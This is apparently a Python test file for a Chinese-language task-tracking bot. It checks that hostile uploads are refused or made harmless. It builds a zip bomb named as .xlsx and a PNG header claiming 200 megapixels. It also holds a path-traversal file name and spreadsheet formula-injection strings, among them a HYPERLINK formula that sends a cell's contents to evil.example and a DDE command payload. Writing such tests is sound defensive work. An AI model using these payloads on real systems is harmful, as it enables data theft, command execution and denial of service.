"""Hostile files sent to the bot: each is refused or made harmless with a clear message, and
nothing is written outside MEDIA_DIR."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from bot.domain.lifecycle import Role
from tests.harness import Duban, last_workbook, office
from tests.sheets import XLSX, xlsx

WAIT = 20


def workbook(rows: list[list[object]]) -> bytes:
    return xlsx(["序号", "问题清单", "措施清单", "承办单位", "办理时限"], rows)


def zip_bomb() -> bytes:
    """A real-looking .xlsx whose one part inflates 1000× (50 MB of zeros in ~50 KB)."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (50 * 1024 * 1024))
    return data.getvalue()


def huge_png(width: int = 20_000, height: int = 10_000) -> bytes:
    """A valid PNG header claiming 200 megapixels, with a tiny (truncated) body."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1024))
        + chunk(b"IEND", b"")
    )


def written_outside(root: Path, media: Path) -> list[Path]:
    """Files under the test's directory that are neither the database nor in MEDIA_DIR."""
    return [
        path
        for path in root.rglob("*")
        if path.is_file()
        and not path.is_relative_to(media)
        and not path.name.startswith("duban.sqlite")
    ]


async def test_hostile_sheets_are_refused_with_a_reason(duban: Duban) -> None:
    """A zip bomb named .xlsx, a truncated workbook, an unreadable CSV and a file over 20 MB
    are each refused with a message that names the file and the reason; no item is made."""
    admin = await office(duban)
    good = workbook([[1, "研发投入偏低", "加大投入", "科技局", "2031-12-31"]])
    cases = [
        (zip_bomb(), "任务表.xlsx", XLSX, "疑似压缩炸弹"),
        (good[: len(good) // 2], "截断.xlsx", XLSX, "已损坏或不完整"),
        ("序号,问题清单\n1,测试\n".encode("utf-16"), "编码.csv", "text/csv", "无法读取 编码.csv"),
        (bytes(range(256)) * 64, "乱码.csv", "text/csv", "无法读取 乱码.csv"),
    ]
    for data, name, mime, reason in cases:
        await admin.send_document(data, name, mime)
        reply = await admin.expect("无法读取", within=WAIT)
        assert name in reply.text and reason in reply.text, reply.text
        assert not reply.buttons
    await admin.send_document(b"\0" * (21 * 1024 * 1024), "大表.xlsx", XLSX)
    await admin.expect("表格文件太大（21.0 MB）")
    await duban.settle(WAIT)
    db = duban.db()
    try:
        assert db.execute("SELECT count(*) FROM items").fetchone()[0] == 0
        assert db.execute("SELECT DISTINCT status FROM inbox").fetchall() == [("done",)]
    finally:
        db.close()


async def test_file_names_cannot_escape_media_dir(duban: Duban, tmp_path: Path) -> None:
    """A sheet named ../../etc/passwd.xlsx or a/b.csv is stored under MEDIA_DIR with a safe
    name and previewed as usual; nothing is written anywhere else."""
    admin = await office(duban)
    sheet = workbook([[1, "研发投入偏低", "加大投入", "科技局", "2031-12-31"]])
    await admin.send_document(sheet, "../../etc/passwd.xlsx", XLSX)
    await admin.expect("导入预览", within=WAIT)
    await admin.send_document(
        "序号,问题清单,承办单位\n1,人才引进难,人社局\n".encode(), "a/b.csv", "text/csv"
    )
    await admin.expect(r"导入预览|无法读取", within=WAIT)
    await duban.settle(WAIT)
    media = duban.settings.media_dir
    assert written_outside(tmp_path, media) == []
    stored = [p for p in media.rglob("*") if p.is_file()]
    assert stored and all(".." not in p.relative_to(media).parts for p in stored)
    assert not any(p.name == "passwd.xlsx" and p.parent.name == "etc" for p in stored)


async def test_formula_in_a_cell_comes_back_as_text(duban: Duban) -> None:
    """An item whose text starts with "=" (a formula injection) is exported as plain text, so
    opening the export in Excel runs nothing."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我查看")'
    duban.seed_task(hostile, "科技局")
    duban.seed_task("+cmd|' /C calc'!A0", "科技局")
    admin = await office(duban)
    await admin.send("/export")
    await admin.expect("导出督办台账")
    await admin.tap("全部事项")
    await admin.expect("范围：")
    await admin.tap("📗 Excel 表格")
    await admin.expect("已导出 2 项", within=WAIT)
    await duban.settle(WAIT)
    book = last_workbook(admin)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert hostile in texts


async def test_a_200_megapixel_photo_is_kept_without_being_decoded(duban: Duban) -> None:
    """A photo claiming 20000×10000 pixels is stored as the bytes that were sent (never
    decoded into memory) and the visit goes on."""
    duban.seed_company("卓远半导体", "磨头镇")
    wang = await duban.register(8801, "王督查", Role.INSPECTOR)
    await wang.send("/visit 卓远")
    await wang.expect("匹配的企业")
    await wang.tap("卓远半导体（磨头镇）")
    await wang.expect("走访中")
    picture = huge_png()
    await wang.send_photo(picture, caption="巨幅照片")
    await wang.expect("照片 1 张", within=WAIT)
    await duban.settle()
    await duban.runtime.run_job("evidence.download")
    db = duban.db()
    try:
        stored = db.execute("SELECT stored, sha256 FROM evidence").fetchall()
    finally:
        db.close()
    assert len(stored) == 1 and stored[0][0] == "stored"
    digest = stored[0][1]
    path = duban.settings.media_dir / digest[:2] / digest[2:4] / digest
    assert path.read_bytes() == picture
    await wang.send("车间很整洁")
    await wang.expect("发现", within=WAIT)
